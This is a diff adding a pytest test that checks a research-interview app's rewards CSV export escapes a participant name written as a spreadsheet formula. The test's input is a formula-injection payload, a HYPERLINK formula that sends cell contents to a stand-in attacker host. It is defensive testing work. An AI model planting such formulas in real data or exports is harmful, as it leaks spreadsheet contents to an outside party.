@@ -264,6 +264,20 @@ def test_the_finance_csv_keeps_amounts_exact_and_currencies_apart(app, client, s
     assert len(ids) == 1
 
 
+def test_a_name_typed_as_a_formula_reaches_the_finance_csv_as_text(app, client, study):
+    offer(app, study)
+    attack = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
+    booking = book_interview(client, next_weekday_slot(10), email="x@evil.example", name=attack)
+    log_in(client, study["dana"].email)
+    complete(client, app, booking["interview_id"])
+
+    body = client.get("/rewards.csv?status=owed").get_data(as_text=True)
+
+    row = next(csv.DictReader(io.StringIO(body)))
+    assert row["participant"] == "'" + attack  # a spreadsheet shows it, never runs it
+    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body
+
+
 def test_a_study_whose_budget_is_committed_stops_offering_times(app, client, study, sent_mail):
     offer(app, study)
     log_in(client, study["dana"].email)
